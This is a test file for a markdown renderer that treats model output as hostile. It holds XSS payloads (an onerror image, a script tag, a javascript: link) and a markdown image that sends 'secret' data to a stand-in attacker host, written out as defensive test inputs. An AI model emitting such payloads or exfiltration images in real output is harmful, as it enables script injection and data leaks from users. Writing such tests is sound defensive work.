import { renderMarkdown } from './render-markdown';

/** What the model writes is hostile: raw HTML is text, images are not loaded. */
describe('renderMarkdown', () => {
  it('renders markdown', () => {
    expect(renderMarkdown('# Tides\n\n- high\n- low')).toBe(
      '<h1>Tides</h1>\n<ul>\n<li>high</li>\n<li>low</li>\n</ul>',
    );
  });

  it('shows raw HTML as text', () => {
    expect(renderMarkdown('<img src=x onerror="alert(1)">')).toBe(
      '&lt;img src=x onerror=&quot;alert(1)&quot;&gt;',
    );
    expect(renderMarkdown('a <script>alert(2)</script> b')).toBe(
      '<p>a &lt;script&gt;alert(2)&lt;/script&gt; b</p>',
    );
  });

  it('shows an image as its alt text and address, without loading it', () => {
    const html = renderMarkdown('![pixel](https://attacker.example/leak?data=secret)');
    expect(html).not.toContain('<img');
    expect(html).toContain('[image: pixel https://attacker.example/leak?data=secret]');
  });

  it("leaves a javascript: link to Angular's sanitizer (the [innerHTML] binding)", () => {
    // marked keeps the address; the binding makes it `unsafe:javascript:…` (see the e2e test).
    expect(renderMarkdown('[go](javascript:alert(1))')).toContain('href="javascript:alert(1)"');
  });
});
